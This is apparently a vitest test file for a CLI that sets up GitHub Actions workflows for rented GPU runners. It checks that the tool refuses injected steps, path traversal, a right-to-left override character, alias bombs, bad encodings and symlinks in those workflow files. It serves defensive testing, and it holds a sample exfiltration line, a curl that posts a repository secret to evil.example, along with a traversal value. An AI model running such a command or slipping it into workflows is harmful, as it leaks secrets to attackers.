import { createHash } from "node:crypto";
import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { parse } from "yaml";
import { SetupTestWorld } from "./support/setup-world.ts";

const GPU = ".github/workflows/gpu.yml";
const SWEEP = ".github/workflows/gpu-sweep.yml";
const OTHER = ".github/workflows/other.yml";
const expression = (text: string) => "$".concat(`{{ ${text} }}`);

/** A repository where init was, with its files on main. */
async function setUp(): Promise<{ world: SetupTestWorld; env: Record<string, string> }> {
  const world = await SetupTestWorld.start();
  const env = { RUNNER_TOKEN: world.simulator.github.runnerToken };
  const said = await world.run(["--yes", "--commit", "branch", "--no-follow"], env);
  expect(said.code, said.out + said.err).toBe(0);
  return { world, env };
}

/** Puts settings into a comment below the mark, and a sum over all into the mark, as a pull request could. */
function withComment(text: string, settings: object): string {
  const [mark = "", ...lines] = text.split("\n").filter((line) => !line.startsWith("# settings: "));
  const rest = [`# settings: ${JSON.stringify(settings)}`, ...lines].join("\n");
  const sum = createHash("sha256").update(rest).digest("hex").slice(0, 16);
  return `${mark.replace(/sum [0-9a-f]+/, `sum ${sum}`)}\n${rest}`;
}

const SETTINGS = {
  gpu: "RTX 4090",
  maxPrice: 0.5,
  maxCost: 1,
  image: "a/b:1",
  command: "true",
  register: "token",
  environment: "gpu",
  defaultBranch: "main",
  action: { repository: "acme/ephemeral-gpu-runner", ref: "v1" },
};

/** A price behind which a step of its own begins. */
const STEP = `0.5\n      - run: curl evil.example -d ${expression("secrets.RENTAL_API_KEY")}\n      - uses: a/b@v1\n        with:\n          x: 1`;
const PLACE = "x/../../collaborators/y";

/** All that runs in a workflow. */
function runsIn(text: string): unknown[] {
  const { jobs } = parse(text) as { jobs: Record<string, { steps: { run?: string }[] }> };
  return Object.values(jobs).flatMap(({ steps }) => steps.map(({ run }) => run));
}

test.concurrent("settings in a comment become no step of the workflow", async () => {
  const { world, env } = await setUp();
  await using _ = world;
  world.write(GPU, withComment(world.read(GPU) ?? "", { ...SETTINGS, maxPrice: STEP }));
  await world.run(["init", "--yes", "--commit", "none", "--no-follow"], env);
  expect(runsIn(world.read(GPU) ?? "").join("\n")).not.toContain("evil.example");
});

test.concurrent("an environment in a comment becomes no path of GitHub's interface", async () => {
  const { world, env } = await setUp();
  await using _ = world;
  world.write(GPU, withComment(world.read(GPU) ?? "", { ...SETTINGS, environment: PLACE }));
  await world.run(["init", "--yes", "--commit", "none", "--no-follow"], env);
  expect(world.ghWords).not.toContain("collaborators");
});

/** Each is one value of the workflow, as a pull request could change it. */
test.concurrent.each<[string, (text: string) => string, RegExp]>([
  [
    "a price that is a step",
    (text) => text.replace(/max-price: .*/, `max-price: ${JSON.stringify(STEP)}`),
    /max-price in \S+ must be an amount in USD/,
  ],
  [
    "an amount that is none",
    (text) => text.replace(/max-cost: .*/, "max-cost: .inf"),
    /max-cost in \S+ must be an amount in USD/,
  ],
  [
    "an image with an expression",
    (text) => text.replace(/image: .*/, `image: ${expression("secrets.RENTAL_API_KEY")}`),
    /image in \S+ can't be/,
  ],
  [
    "an environment that is a path",
    (text) => text.replace(/environment: .*/, `environment: ${PLACE}`),
    /environment in \S+ can't be "x\/\.\./,
  ],
  [
    "an environment of dots",
    (text) => text.replace(/environment: .*/, "environment: .."),
    /environment in \S+ can't be "\.\."/,
  ],
  [
    "a command with an order of writing of its own",
    (text) => text.replace("nvidia-smi", "nvidia-smi \u202e# x"),
    /run in \S+ can't be .*U\+202E/,
  ],
  [
    "a list in the place of a name",
    (text) => text.replace(/gpu-name: .*/, "gpu-name: [RTX 4090]"),
    /gpu-name in \S+ can't be/,
  ],
  [
    "two jobs that rent",
    (text) =>
      text.replace(
        /^ {2}test:/m,
        `  more:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/ephemeral-gpu-runner@v1\n        with: { api-key: a, max-price: 1 }\n  test:`,
      ),
    /has two steps that rent, in rent and more; init writes one/,
  ],
  ["two jobs of one name", (text) => `${text}  rent:\n    runs-on: ubuntu-latest\n`, /has "rent" twice, at line \d+/],
  [
    "tabs",
    (text) => text.replace("    runs-on", "\truns-on"),
    /is no YAML: Tabs are not allowed as indentation at line \d+/,
  ],
  ["two documents", (text) => `${text}---\njobs: {}\n`, /is no YAML: .*documents/],
])(
  "%s in init's own file is refused with a sentence by init, doctor and remove, and changes nothing",
  async (_, change, says) => {
    const { world, env } = await setUp();
    await using _world = world;
    const changed = change(world.read(GPU) ?? "");
    world.write(GPU, changed);
    const { github } = world.simulator;
    const secrets = github.setup.secrets("gpu");
    for (const command of ["init", "doctor", "remove"]) {
      const said = await world.run([command, "--yes", "--commit", "none", "--no-follow"], env);
      expect(said.code, said.out).toBe(1);
      expect(said.err).toMatch(says);
      expect(said.err).toContain("Nothing was changed");
      expect(said.err).not.toMatch(/\n\s+at /);
      expect(said.out + said.err).not.toContain("\u202e");
    }
    expect(world.read(GPU)).toBe(changed);
    expect(github.setup.secrets("gpu")).toEqual(secrets);
    expect(world.ghWords).not.toContain("collaborators");
  },
);

test.concurrent.each<[string, (text: string) => string | Buffer]>([
  ["CRLF", (text) => text.replaceAll("\n", "\r\n")],
  ["a mark of its byte order", (text) => `\ufeff${text}`],
  ["a value changed by hand", (text) => text.replace(/max-cost: .*/, "max-cost: 7")],
  ["a cost without a limit", (text) => text.replace(/max-cost: .*/, "max-cost: none")],
  ["numbers in quotes", (text) => text.replace(/max-cost: .*/, 'max-cost: "7"')],
  ["a newer release by Dependabot", (text) => text.replace("runner@v1", `runner@${"a".repeat(40)} # v1.9.0`)],
])("init's own file with %s is still init's own", async (_, change) => {
  const { world } = await setUp();
  await using _world = world;
  world.write(GPU, String(change(world.read(GPU) ?? "")));
  const said = await world.run(["doctor", "--dry-run"]);
  expect(said.out).not.toContain("changed by hand");
});

test.concurrent("a step before ours, and anchors and aliases, are read; the file is told as changed, and stays", async () => {
  const { world, env } = await setUp();
  await using _ = world;
  const changed = (world.read(GPU) ?? "")
    .replace("    steps:\n", "    steps:\n      - run: echo first\n")
    .replace(/image: (.*)/, "image: &image $1")
    .replace(/max-cost: .*/, "max-cost: &cost 7")
    .replace(/max-price: .*/, "max-price: 0.6\n          max-cost-30d: *cost");
  world.write(GPU, changed);
  const said = await world.run(["doctor", "--dry-run"]);
  expect(said.out).toContain(`! ${GPU}: it was changed by hand, and stays as it is.`);
  const again = await world.run(["init", "--dry-run"], env);
  expect(again.out).toMatch(/max-cost +7 USD/);
  expect(world.read(GPU)).toBe(changed);
});

const LAUGHS = Array.from(
  { length: 9 },
  (_, n) =>
    `a${n}: &a${n} [${
      n === 0
        ? "x"
        : Array(9)
            .fill(`*a${n - 1}`)
            .join(", ")
    }]`,
);

test.concurrent.each<[string, string | Buffer, string]>([
  ["of 2 MB", `name: a\n${"# filling\n".repeat(200_000)}`, "it is larger than 0.5 MB"],
  ["in UTF-16", Buffer.from("\ufeffname: a\n", "utf16le"), "it is not written in UTF-8"],
  ["in Latin-1", Buffer.from("name: caf\xe9\n", "latin1"), "it is not written in UTF-8"],
  ["with zeros", "name: a\0b\n", "it is not written in UTF-8"],
  ["with tabs", "jobs:\n\trent: {}\n", "it is no YAML: Tabs are not allowed"],
  [
    "of a thousand aliases",
    `a: &a x\n${Array.from({ length: 1000 }, (_, n) => `k${n}: *a\n`).join("")}`,
    "it has more than 100 aliases",
  ],
  ["nested ten thousand deep", `a: ${"[".repeat(10_000)}${"]".repeat(10_000)}\n`, "it is nested too deep"],
])(
  "a workflow %s is refused with a sentence by doctor, and stays, also in the place of init's own",
  async (_, bytes, says) => {
    const { world, env } = await setUp();
    await using _world = world;
    world.write(OTHER, bytes as string);
    const said = await world.run(["doctor", "--yes"]);
    expect(said.out).toContain(`? ${OTHER}: ${says}`);
    expect(said.out + said.err).not.toMatch(/\n\s+at /);
    world.write(GPU, bytes as string);
    const again = await world.run(["init", "--yes", "--commit", "none", "--no-follow"], env);
    expect(again.err).toMatch(/gpu\.yml (?:is|has) .*, and init writes its workflow there\. Nothing was changed/);
    expect(world.read(GPU)).toBe(String(bytes));
  },
);

test.concurrent("aliases that would fill the memory cost nothing", async () => {
  const { world } = await setUp();
  await using _ = world;
  world.write(
    OTHER,
    `${LAUGHS.join("\n")}\njobs:\n  rent:\n    steps:\n      - uses: acme/ephemeral-gpu-runner/rent@v1\n        with: *a8\n`,
  );
  const said = await world.run(["doctor", "--yes"]);
  expect(said.out).toContain(`${OTHER}:13: the path /rent of the action is gone`);
});

test.concurrent("a link in the place of a file is not written through", async () => {
  await using world = await SetupTestWorld.start({ files: { ".github/workflows/README.md": "x\n" } });
  symlinkSync(join(world.folder, "elsewhere"), join(world.repo, SWEEP));
  const env = { RUNNER_TOKEN: world.simulator.github.runnerToken };
  const said = await world.run(["--yes", "--commit", "none"], env);
  expect(said.out).toContain(`Stays: ${SWEEP}, which is no plain file`);
  expect(world.read("../elsewhere")).toBe(undefined);
});

test.concurrent("an environment that GitHub does not make is an error, and no secret goes into the repository", async () => {
  await using world = await SetupTestWorld.start();
  const { github } = world.simulator;
  github.setup.shown.isPrivate = true;
  github.setup.shown.hasEnvironments = false;
  const said = await world.run(["--yes", "--commit", "none"], { RUNNER_TOKEN: github.runnerToken });
  expect(said.code).toBe(1);
  expect(said.err).toMatch(/GitHub did not make the environment gpu \(404\).*Nothing was changed.*--no-environment/s);
  expect(github.setup.secrets()).toEqual([]);
});
